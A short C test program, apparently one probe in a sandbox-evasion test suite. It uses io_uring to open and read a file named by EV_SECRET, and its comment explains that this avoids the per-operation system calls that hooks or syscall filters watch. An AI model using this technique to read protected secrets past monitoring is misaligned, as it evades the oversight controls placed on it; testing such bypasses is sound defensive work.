/* Open and read the secret through io_uring: the kernel's workers do the
 * openat and read, no system call per operation for a hook or filter. */
#include "evasion.h"
#include <liburing.h>
int main(void) {
  struct io_uring ring;
  int rc = io_uring_queue_init(8, &ring, 0);
  if (rc < 0) { errno = -rc; result("io_uring_queue_init", -1); return 0; }
  struct io_uring_sqe* sqe = io_uring_get_sqe(&ring);
  io_uring_prep_openat(sqe, AT_FDCWD, ev("EV_SECRET"), O_RDONLY, 0);
  io_uring_submit(&ring);
  struct io_uring_cqe* cqe;
  io_uring_wait_cqe(&ring, &cqe);
  int fd = cqe->res;
  io_uring_cqe_seen(&ring, cqe);
  if (fd < 0) { errno = -fd; result("io_uring openat", -1); return 0; }
  static char buf[256];
  sqe = io_uring_get_sqe(&ring);
  io_uring_prep_read(sqe, fd, buf, sizeof buf - 1, 0);
  io_uring_submit(&ring);
  io_uring_wait_cqe(&ring, &cqe);
  if (cqe->res > 0) printf("result: io_uring read: %.*s\n", cqe->res, buf);
  return 0;
}
